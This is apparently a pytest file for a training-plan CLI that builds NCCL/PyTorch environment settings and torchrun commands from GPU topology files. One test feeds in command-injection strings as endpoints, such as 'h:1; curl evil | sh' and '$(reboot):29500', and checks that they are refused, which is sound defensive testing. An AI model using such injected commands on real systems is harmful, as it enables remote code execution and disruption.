"""Plans: profile choice, the env they emit (only names NCCL/PyTorch read), overrides, per-rank
NIC and CPU binding, and the `seedance train plan` command."""

from __future__ import annotations

import csv
import json
import math
import os

import pytest
from typer.testing import CliRunner

from seedance_tasks.cli import app
from seedance_tasks.errors import ConfigError, UsageError
from seedance_tasks.training import envvars
from seedance_tasks.training.plan import _load, apply_rank_binding, load_profiles, make_plan, nic_transport_of
from seedance_tasks.training.topology import parse_topologies
from tests.conftest import DATA

TOPO = DATA / "training" / "topo"
CSV = DATA / "training" / "nccl_env_table.csv"


def _machines():
    for path in sorted(TOPO.iterdir()):
        for index, topo in enumerate(parse_topologies(path.read_text(), path.name)):
            yield f"{path.stem}#{index}", topo


def _not_read_by_nccl() -> set[str]:
    """Names the independent CSV table says NCCL/PyTorch do not read (or only as a deprecated alias)."""
    names = set()
    with CSV.open() as handle:
        for row in csv.DictReader(handle):
            status = row["status"].upper()
            if any(word in status for word in ("DOES NOT EXIST", "REMOVED", "DEPRECATED", "NOT NCCL")):
                names.update(part.strip() for part in row["name"].split("/"))
    return names


def test_csv_names_nccl_never_reads_are_refused():
    bad = _not_read_by_nccl()
    assert {"NCCL_RING_ALGO", "NCCL_COLL_TIMEOUT", "NCCL_MIN_NRINGS", "NCCL_ASYNC_ERROR_HANDLING"} <= bad
    for name in bad:
        assert not envvars.check(name).ok, name


@pytest.mark.parametrize("nodes", [1, 2])
def test_no_plan_emits_a_name_nothing_reads(nodes):
    bad = _not_read_by_nccl()
    seen_profiles = set()
    for label, topo in _machines():
        for profile in ["auto", *load_profiles()]:
            if profile == "cpu-gloo":
                continue
            plan = make_plan(topo, nodes=nodes, profile=profile, rdzv_endpoint="node0:29500", max_restarts=1)
            seen_profiles.add(plan["profile"]["name"])
            names = set(plan["env"]) | {name for rank in plan["ranks"] for name in rank["env"]}
            for name in names:
                assert name not in bad, (label, profile, name)
                assert envvars.check(name, plan["env"].get(name)).ok, (label, profile, name)
    assert len(seen_profiles) >= 6


def test_profile_auto_selection():
    machines = dict(_machines())
    pick = {label: make_plan(topo, nodes=1)["profile"]["name"] for label, topo in machines.items()}
    assert pick["h100_8gpu_nv18_2numa_ht_affinity_spaces#0"] == "nvlink-single-node"
    assert pick["two_gpu_nv2_and_phb_consumer#0"] == "nvlink-single-node"
    assert pick["two_gpu_nv2_and_phb_consumer#1"] == "pcie-single-node"
    assert pick["dgx1_8gpu_topo_mp_pcie_only_view_4nic#0"] == "pcie-single-node"
    multi = make_plan(machines["dgx_a100_8gpu_nv12_12nic_mlx5#0"], nodes=2, rdzv_endpoint="n0:29500")
    assert multi["profile"]["name"] == "ib-multi-node"
    assert multi["env"]["NCCL_IB_HCA"] == "=mlx5_0,mlx5_1,mlx5_2,mlx5_3,mlx5_6,mlx5_7,mlx5_8,mlx5_9"
    assert make_plan(None)["profile"]["name"] == "cpu-gloo"
    assert make_plan(None)["backend"] == "gloo"


def test_plan_json_shape_and_per_rank_binding():
    topo = dict(_machines())["dgx_a100_8gpu_nv12_12nic_mlx5#0"]
    plan = make_plan(topo, nodes=2, rdzv_endpoint="n0:29500", max_restarts=2)
    assert plan["gpus"] == [f"GPU{i}" for i in range(8)]
    assert plan["links"]["GPU0"]["GPU7"] == "NV12"
    assert plan["numa"]["GPU4"] == 7
    assert plan["nics"][0] == "mlx5_0" and len(plan["nics"]) == 12
    ranks = {rank["local_rank"]: rank for rank in plan["ranks"]}
    assert ranks[0]["env"]["NCCL_IB_HCA"] == "=mlx5_0,mlx5_1"
    assert ranks[6]["env"]["NCCL_IB_HCA"] == "=mlx5_8,mlx5_9"
    assert ranks[2]["cpus"] == "16-31,144-159" and ranks[2]["numa"] == 1
    assert ranks[2]["env"]["OMP_NUM_THREADS"] == "16"  # 32 CPUs shared by GPU2 and GPU3
    assert plan["env"]["TORCH_DISABLE_SHARE_RDZV_TCP_STORE"] == "1"  # restarts need it
    assert plan["command"][:5] == ["torchrun", "--nproc-per-node=8", "--nnodes=2", "--rdzv-backend=c10d",
                                   "--rdzv-endpoint=n0:29500"]
    assert "--max-restarts=2" in plan["command"]
    json.dumps(plan)  # JSON-able as it is


def test_single_node_pins_no_nic_and_warns_on_unbound_ranks():
    machines = dict(_machines())
    della = make_plan(machines["h100_8gpu_nv18_6nic_niclegend_empty_affinity_della#0"])
    assert "NCCL_IB_HCA" not in della["env"]
    assert all("NCCL_IB_HCA" not in rank["env"] for rank in della["ranks"])
    assert any("GPU0, GPU1, GPU2, GPU3" in warning for warning in della["warnings"])
    mp = make_plan(machines["dgx1_8gpu_topo_mp_pcie_only_view_4nic#0"])
    assert any("topo -mp" in warning for warning in mp["warnings"])


def test_overrides_validated_with_the_right_name_suggested():
    with pytest.raises(UsageError) as caught:
        make_plan(None, overrides={"NCCL_RING_ALGO": "ring", "NCCL_ASYNC_ERROR_HANDLING": "1"})
    text = str(caught.value)
    assert "NCCL_RING_ALGO" in text and "use NCCL_ALGO" in text
    assert "use TORCH_NCCL_ASYNC_ERROR_HANDLING" in text
    with pytest.raises(UsageError, match="use NCCL_SOCKET_IFNAME"):
        envvars.validate({"NCCL_SOCKET_IFNAM": "eth0"})
    with pytest.raises(UsageError, match="NCCL has no NODE level"):
        envvars.validate({"NCCL_P2P_LEVEL": "NODE"})
    with pytest.raises(UsageError, match="unknown algorithm"):
        envvars.validate({"NCCL_ALGO": "ring,bogus"})
    good = make_plan(None, overrides={"NCCL_SOCKET_IFNAME": "=eth0", "TORCH_NCCL_BLOCKING_WAIT": "1"})
    assert good["env"]["NCCL_SOCKET_IFNAME"] == "=eth0"
    assert envvars.check("NCCL_IB_HCA", "mlx5_1").warning  # a prefix match catches mlx5_10..19


def test_a_profile_file_with_a_fake_variable_is_refused(tmp_path):
    path = tmp_path / "profiles.yaml"
    path.write_text("profiles:\n  blog:\n    match: {gpus: none}\n    env: {NCCL_COLL_TIMEOUT: '1800'}\n")
    with pytest.raises(UsageError, match="NCCL_COLL_TIMEOUT"):
        make_plan(None, profiles_file=path)
    path.write_text("profiles:\n  ok:\n    match: {gpus: none}\n    color: red\n")
    with pytest.raises(ConfigError, match="color"):
        make_plan(None, profiles_file=path)


def test_rank_binding_sets_env_and_cpus():
    saved = os.sched_getaffinity(0)
    cpu = min(saved)
    environ = {
        "LOCAL_RANK": "1",
        "SEEDANCE_TRAIN_RANKS": json.dumps([
            {"env": {"OMP_NUM_THREADS": "9"}, "cpus": "0"},
            {"env": {"OMP_NUM_THREADS": "3", "NCCL_IB_HCA": "=mlx5_1"}, "cpus": str(cpu)},
        ]),
    }
    try:
        done = apply_rank_binding(environ)
        assert environ["OMP_NUM_THREADS"] == "3" and environ["NCCL_IB_HCA"] == "=mlx5_1"
        assert done["cpus"] == str(cpu)
        assert os.sched_getaffinity(0) == {cpu}
    finally:
        os.sched_setaffinity(0, saved)
    far = {"LOCAL_RANK": "0", "SEEDANCE_TRAIN_RANKS": json.dumps([{"env": {}, "cpus": "65000"}])}
    assert "skipped" in apply_rank_binding(far)


def test_cli_plan_json_and_refusal():
    runner = CliRunner()
    result = runner.invoke(app, ["train", "plan", "--topology", str(TOPO / "dgx_a100_8gpu_nv12_12nic_mlx5.txt"),
                                 "--json"])
    assert result.exit_code == 0, result.output
    plan = json.loads(result.stdout)
    for key in ("gpus", "links", "numa", "nics", "profile", "env", "command"):
        assert key in plan
    assert plan["profile"]["name"] == "nvlink-single-node"
    assert plan["links"]["GPU3"]["mlx5_2"] == "PXB"
    refused = runner.invoke(app, ["train", "plan", "--set", "NCCL_MIN_NRINGS=4"])
    assert refused.exit_code == 2
    assert "NCCL_MIN_CTAS" in refused.output
    second = runner.invoke(app, ["train", "plan", "--topology", str(TOPO / "two_gpu_nv2_and_phb_consumer.txt"),
                                 "--machine", "1", "--json"])
    assert json.loads(second.stdout)["profile"]["name"] == "pcie-single-node"


def test_detect_without_nvidia_smi_says_what_to_do():
    result = CliRunner().invoke(app, ["train", "plan", "--detect"], env={"PATH": "/nonexistent"})
    assert result.exit_code == 2
    assert "nvidia-smi" in result.output and "--topology" in result.output


DELLA = TOPO / "h100_8gpu_nv18_6nic_niclegend_empty_affinity_della.txt"


def _della_without_legend() -> str:
    """The della H100 matrix as `head -n 16` leaves it: NIC0..NIC5 columns, no Legend, no NIC Legend."""
    return "".join(DELLA.read_text().splitlines(keepends=True)[:16])


def test_nic_headers_without_a_legend_are_an_unknown_transport_not_infiniband():
    # an InfiniBand machine (della, mlx5) and an AWS EFA machine print the same NIC0..NICn without
    # their NIC Legend: nothing in the matrix tells them apart, so no transport is assumed
    topo = parse_topologies(_della_without_legend(), "della_nolegend.txt")[0]
    assert nic_transport_of(topo) == "unknown"
    plan = make_plan(topo, nodes=2, rdzv_endpoint="n0:29500")
    assert plan["nic_transport"] == "unknown"
    assert plan["profile"]["name"] == "nccl-defaults" and "nics=unknown" in plan["profile"]["why"]
    transport_vars = {"NCCL_IB_HCA", "FI_PROVIDER", "FI_EFA_USE_DEVICE_RDMA", "NCCL_NET"}
    assert not transport_vars & set(plan["env"])
    assert all(not transport_vars & set(rank["env"]) for rank in plan["ranks"])
    assert plan["env"]["NCCL_DEBUG"] == "INFO"  # the health settings every nccl profile gets stay
    [warning] = [item for item in plan["warnings"] if "NIC Legend" in item]
    assert warning.startswith("della_nolegend.txt: NIC0..NIC5 have no NIC Legend, so the NIC transport is unknown")
    assert "NCCL's defaults, nothing transport-specific" in warning
    assert "hint: pass the whole output of `nvidia-smi topo -m`, including its NIC Legend" in warning
    assert "--nic-transport ib|efa|none" in warning
    single = make_plan(topo, nodes=1)  # one node: the NVLink profile, which sets nothing for the NICs
    assert single["profile"]["name"] == "nvlink-single-node" and "NCCL_IB_HCA" not in single["env"]
    assert any(item.startswith("della_nolegend.txt: NIC0..NIC5 have no NIC Legend, so the NIC transport is unknown")
               for item in single["warnings"])


def test_the_nic_transport_can_be_named_when_the_topology_cannot_tell():
    topo = parse_topologies(_della_without_legend(), "della_nolegend.txt")[0]
    ib = make_plan(topo, nodes=2, rdzv_endpoint="n0:29500", nic_transport="ib")
    assert ib["profile"]["name"] == "ib-multi-node" and ib["nic_transport"] == "ib"
    assert "NCCL_IB_HCA" not in ib["env"]  # NCCL cannot match NICn names
    assert any(item.startswith("della_nolegend.txt: NIC0..NIC5 have no NIC Legend: NCCL_IB_HCA is left unset")
               for item in ib["warnings"])
    efa = make_plan(topo, nodes=2, rdzv_endpoint="n0:29500", nic_transport="efa")
    assert efa["profile"]["name"] == "aws-efa" and efa["env"]["FI_PROVIDER"] == "efa"
    assert not any("NIC Legend" in item for item in efa["warnings"])
    with pytest.raises(UsageError) as caught:
        make_plan(topo, nodes=2, rdzv_endpoint="n0:29500", nic_transport="infiniband")
    assert "unknown NIC transport 'infiniband'" in caught.value.message and "efa" in caught.value.hint


def test_a_nic_legend_still_decides_the_transport():
    full = parse_topologies(DELLA.read_text(), DELLA.name)[0]
    assert nic_transport_of(full) == "ib"
    plan = make_plan(full, nodes=2, rdzv_endpoint="n0:29500")
    assert plan["profile"]["name"] == "ib-multi-node" and plan["env"]["NCCL_IB_HCA"].startswith("=mlx5_0")
    assert not any("NIC Legend" in item for item in plan["warnings"])
    # EFA devices under their names (rdmapNsM) are EFA, with or without --nic-transport
    efa_names = DELLA.read_text().replace(": mlx5_", ": rdmap1s")
    assert nic_transport_of(parse_topologies(efa_names, "efa.txt")[0]) == "efa"
    assert nic_transport_of(None) == "none"
    assert make_plan(None, nodes=2, rdzv_endpoint="n0:29500")["nic_transport"] == "none"


def test_cli_plan_without_a_nic_legend_warns_with_a_hint_and_takes_nic_transport(tmp_path):
    path = tmp_path / "nolegend.txt"
    path.write_text(_della_without_legend())
    runner = CliRunner()
    base = ["train", "plan", "--topology", str(path), "--nodes", "2", "--rdzv-endpoint", "n0:29500"]
    shown = runner.invoke(app, base)
    assert shown.exit_code == 0, shown.output
    assert f"warning: {path}: NIC0..NIC5 have no NIC Legend, so the NIC transport is unknown" in shown.output
    assert "\n  hint: pass the whole output of `nvidia-smi topo -m`, including its NIC Legend" in shown.output
    assert json.loads(runner.invoke(app, [*base, "--json"]).stdout)["profile"]["name"] == "nccl-defaults"
    named = json.loads(runner.invoke(app, [*base, "--nic-transport", "efa", "--json"]).stdout)
    assert named["profile"]["name"] == "aws-efa" and named["nic_transport"] == "efa"
    refused = runner.invoke(app, [*base, "--nic-transport", "roce"])
    assert refused.exit_code == 2 and "unknown NIC transport 'roce'" in refused.output
    assert "hint:" in refused.output and "Traceback" not in refused.output


def test_the_fallback_profile_can_be_named_again():
    # the DAG's launch task re-plans with the profile its plan task chose
    topo = parse_topologies(_della_without_legend(), "della_nolegend.txt")[0]
    again = make_plan(topo, nodes=2, rdzv_endpoint="n0:29500", profile="nccl-defaults")
    assert again["profile"]["name"] == "nccl-defaults" and "NCCL_IB_HCA" not in again["env"]


def test_numa_affinity_spanning_nodes_is_reported_in_the_plan():
    a100 = TOPO / "a100_8gpu_nv12_2numa_spaces_nonic.txt"
    lines = a100.read_text().splitlines(keepends=True)
    lines[3] = lines[3].replace("0-23         0", "0-23         0-1")
    plan = make_plan(parse_topologies("".join(lines), "a100.txt")[0])
    assert plan["numa"]["GPU0"] is None and plan["numa"]["GPU1"] == 0
    assert any(item.startswith("a100.txt: GPU0: NUMA Affinity 0-1 spans several NUMA nodes")
               for item in plan["warnings"])
    assert not any("no NUMA affinity reported" in item for item in plan["warnings"])


def test_cli_plan_on_a_malformed_affinity_cell_is_an_error_line_not_an_internal_error(tmp_path):
    source = (TOPO / "a100_8gpu_nv12_2numa_spaces_nonic.txt").read_text()
    bad = tmp_path / "a100.txt"
    bad.write_text(source.replace("0-23 ", "0-2x3 ", 1))
    result = CliRunner().invoke(app, ["train", "plan", "--topology", str(bad)])
    assert result.exit_code == 1, result.output
    assert f"error: {bad}:4: CPU Affinity '0-2x3' of GPU0 is not a CPU list" in result.output
    assert "hint:" in result.output and "unexpected" not in result.output


@pytest.mark.parametrize("cell", ["0-x", "abc", "-1", "4096"])
def test_cli_plan_on_a_malformed_numa_cell_is_an_error_line_not_an_internal_error(tmp_path, cell):
    source = (TOPO / "a100_8gpu_nv12_2numa_spaces_nonic.txt").read_text()
    bad = tmp_path / "a100.txt"
    bad.write_text(source.replace("0-23         0", f"0-23         {cell}", 1))
    result = CliRunner().invoke(app, ["train", "plan", "--topology", str(bad)])
    assert result.exit_code == 1, result.output
    text = " ".join(result.output.split())
    assert f"error: {bad}:4: NUMA Affinity '{cell}' of GPU0 is not a NUMA node list" in text
    assert "hint:" in result.output and "Traceback" not in result.output and "unexpected" not in result.output


@pytest.mark.parametrize("endpoint", ["node-0.cluster:29500", "10.0.0.7:29500", "[fd00::1]:29500", "[fe80::1%eth0]:29500", "head",
                                      "HOST:29500"])
def test_rendezvous_endpoints_of_every_form_are_taken(endpoint):
    assert f"--rdzv-endpoint={endpoint}" in make_plan(None, nodes=2, rdzv_endpoint=endpoint)["command"]


@pytest.mark.parametrize("endpoint", ["h:1; curl evil | sh", "$(reboot):29500", "n0:29500 --nnodes=9", "n0:`id`",
                                      "n0:0", "n0:99999", "-n0:29500", "n0:29500\n"])
def test_a_rendezvous_endpoint_that_is_not_host_port_is_refused_before_it_reaches_the_command(endpoint):
    with pytest.raises(UsageError, match="is not HOST:PORT") as caught:
        make_plan(None, nodes=2, rdzv_endpoint=endpoint)
    assert caught.value.hint
    shown = CliRunner().invoke(app, ["train", "plan", "--nodes", "2", "--rdzv-endpoint", endpoint])
    assert shown.exit_code == 2 and "is not HOST:PORT" in shown.output and "Traceback" not in shown.output



@pytest.mark.parametrize("value, problem", [
    ("eth0\x00", "control characters"), ("eth0\nNCCL_DEBUG=TRACE", "control characters"),
    ({"a": 1}, "a dict is not a value"), (["eth0"], "a list is not a value"),
])
def test_an_override_value_that_no_environment_can_hold_is_refused(value, problem):
    with pytest.raises(UsageError, match=problem) as caught:
        make_plan(None, backend="gloo", overrides={"NCCL_SOCKET_IFNAME": value})
    assert "NCCL_SOCKET_IFNAME" in caught.value.message


@pytest.mark.parametrize("value", [math.inf, -math.inf, math.nan])
def test_a_number_that_is_not_finite_is_refused_not_sent_as_inf(value):
    with pytest.raises(UsageError, match="NCCL_BUFFSIZE=.*not a finite number"):
        make_plan(None, backend="gloo", overrides={"NCCL_BUFFSIZE": value})


def test_a_whole_number_from_a_json_form_reaches_nccl_as_its_digits():
    # NCCL reads numbers with strtoll: `4.0` is 4 there, but `1e+20` (str of 1e20) would be 1
    plan = make_plan(None, backend="gloo", overrides={"NCCL_BUFFSIZE": 4194304.0, "NCCL_IB_TIMEOUT": 22.0,
                                                       "TORCH_NCCL_HEARTBEAT_TIMEOUT_SEC": 1e20})
    assert {key: plan["env"][key] for key in ("NCCL_BUFFSIZE", "NCCL_IB_TIMEOUT", "TORCH_NCCL_HEARTBEAT_TIMEOUT_SEC")} \
        == {"NCCL_BUFFSIZE": "4194304", "NCCL_IB_TIMEOUT": "22", "TORCH_NCCL_HEARTBEAT_TIMEOUT_SEC": str(10**20)}


def test_boolean_overrides_and_profile_values_are_1_or_0_as_nccl_parses_flags(tmp_path):
    # NCCL reads "True" as 0: a YAML/JSON true must reach it as 1
    plan = make_plan(None, backend="gloo", overrides={"NCCL_IB_DISABLE": True, "NCCL_P2P_DISABLE": False,
                                                       "NCCL_IB_TIMEOUT": 22})
    assert {key: plan["env"][key] for key in ("NCCL_IB_DISABLE", "NCCL_P2P_DISABLE", "NCCL_IB_TIMEOUT")} == {
        "NCCL_IB_DISABLE": "1", "NCCL_P2P_DISABLE": "0", "NCCL_IB_TIMEOUT": "22"}
    path = tmp_path / "profiles.yaml"
    path.write_text("common:\n  nccl: {NCCL_CUMEM_ENABLE: false}\nprofiles:\n  mine:\n"
                    "    match: {gpus: none}\n    env: {NCCL_IB_DISABLE: yes}\n")
    mine = make_plan(None, backend="gloo", profiles_file=path)
    assert mine["profile"]["name"] == "mine" and mine["env"]["NCCL_IB_DISABLE"] == "1"
    assert load_profiles(path)["mine"].env == {"NCCL_IB_DISABLE": "1"}
    assert _load(str(path))[1] == {"nccl": {"NCCL_CUMEM_ENABLE": "0"}}  # what nccl plans start from


@pytest.mark.parametrize("body, where", [
    ("profiles:\n  mine:\n    env: [NCCL_DEBUG=INFO]\n", "profile 'mine' key env must be a mapping"),
    ("profiles:\n  mine:\n    env: NCCL_DEBUG=INFO\n", "profile 'mine' key env must be a mapping"),
    ("profiles:\n  mine:\n    env: 3\n", "profile 'mine' key env must be a mapping"),
    ("profiles:\n  mine: [a, b]\n", "profile 'mine' must be a mapping"),
    ("profiles: [mine]\n", "profiles must be a mapping"),
    ("common:\n  nccl: [TORCH_NCCL_DUMP_ON_TIMEOUT]\nprofiles:\n  mine: {}\n", "common.nccl must be a mapping"),
    ("- a list\n", "the file must be a mapping"),
    ("profiles:\n  mine:\n    match: gpus\n", "profile 'mine' key match must be a mapping"),
    ("profiles:\n  mine:\n    expected_busbw_gbps: {NV18: fast}\n", "expected_busbw_gbps.NV18='fast'"),
    ("profiles:\n  mine:\n    expected_busbw_gbps: [360]\n", "key expected_busbw_gbps must be a mapping"),
])
def test_a_profiles_file_of_the_wrong_shape_is_a_config_error_naming_file_profile_and_key(tmp_path, body, where):
    path = tmp_path / "profiles.yaml"
    path.write_text(body)
    with pytest.raises(ConfigError) as caught:
        load_profiles(path)
    assert str(path) in str(caught.value) and where in str(caught.value)
    assert caught.value.hint


def test_a_bad_value_gets_a_value_hint_and_a_bad_name_a_name_hint():
    with pytest.raises(UsageError) as value:
        envvars.validate({"NCCL_DEBUG": "LOUD"})
    assert "set only variables" not in value.value.hint and "value" in value.value.hint
    with pytest.raises(UsageError) as listed:
        envvars.validate({"NCCL_SOCKET_IFNAME": ["eth0"]})
    assert "set only variables" not in listed.value.hint and "value" in listed.value.hint
    with pytest.raises(UsageError) as name:
        envvars.validate({"NCCL_RING_ALGO": "ring"})
    assert name.value.hint.startswith("set only variables NCCL or PyTorch read")
    with pytest.raises(UsageError) as both:
        envvars.validate({"NCCL_RING_ALGO": "ring", "NCCL_P2P_LEVEL": "NODE"})
    assert "set only variables" in both.value.hint and "value its library accepts" in both.value.hint


@pytest.mark.parametrize(("body", "said"), [
    ("profiles:\n  mine: {env: {}}\n  mine: {env: {}}\n", "line 3, column 3: key 'mine' is given twice (first on line 2)"),
    ("profiles: &a\n  mine: *a\n", "line 1: an alias refers to the value that holds it"),
    ("profiles:\n  mine:\n    env: {NCCL_DEBUG: INFO}\n    notes: [2026-02-30]\n", "line 4, column 13: not a date"),
])
def test_a_profiles_file_is_read_with_the_hardened_loader_naming_the_line(tmp_path, body, said):
    """yaml.safe_load keeps the last of a profile given twice, loops on a self-referring alias and
    raises a bare ValueError on 2026-02-30: each is a ConfigError naming the file and the line."""
    path = tmp_path / "profiles.yaml"
    path.write_text(body)
    with pytest.raises(ConfigError) as caught:
        load_profiles(path)
    assert str(path) in caught.value.message and said in caught.value.message, caught.value.message
    assert caught.value.hint


@pytest.mark.parametrize("where", ["missing", "directory", "latin-1", "/dev/zero"])
def test_a_profiles_file_that_cannot_be_read_is_a_config_error_with_a_hint(tmp_path, where):
    path = {"missing": tmp_path / "nope.yaml", "directory": tmp_path, "/dev/zero": "/dev/zero"}.get(
        where, tmp_path / "latin.yaml")
    if where == "latin-1":
        path.write_bytes("profiles:\n  caf\xe9: {env: {}}\n".encode("latin-1"))
    with pytest.raises(ConfigError) as caught:
        load_profiles(path)
    assert str(path) in caught.value.message and caught.value.hint, caught.value.message


@pytest.mark.parametrize(("args", "said"), [
    (["--topology", "/nonexistent/topo.txt"], "topology file /nonexistent/topo.txt: not found"),
    (["--topology", "."], "is a directory, not a topology file"),
    (["--set", "NCCL_DEBUG"], "--set 'NCCL_DEBUG': expected NAME=value"),
])
def test_cli_plan_on_a_missing_topology_or_a_set_without_a_value_says_what_to_do(args, said):
    result = CliRunner().invoke(app, ["train", "plan", *args])
    assert result.exit_code == 2 and said in result.output, result.output
    assert "hint:" in result.output and "Traceback" not in result.output, result.output


@pytest.mark.parametrize(("command", "option"), [
    ("plan", "--profile"), ("plan", "--nic-transport"), ("plan", "--rdzv-endpoint"),
    ("launch", "--data"), ("launch", "--checkpoint-store"), ("launch", "--log-dir"), ("launch", "--run"),
])
def test_an_option_given_as_an_empty_string_is_refused_not_taken_as_left_out(command, option):
    # `--data "$DATA"` with DATA unset trained on synthetic tokens; `--profile ""` planned with auto
    result = CliRunner().invoke(app, ["train", command, option, "", "--steps" if command == "launch" else "--json",
                                      *(["1"] if command == "launch" else [])])
    assert result.exit_code == 2 and f"error: {option} is empty" in result.output, result.output
    assert "hint:" in result.output and "Traceback" not in result.output
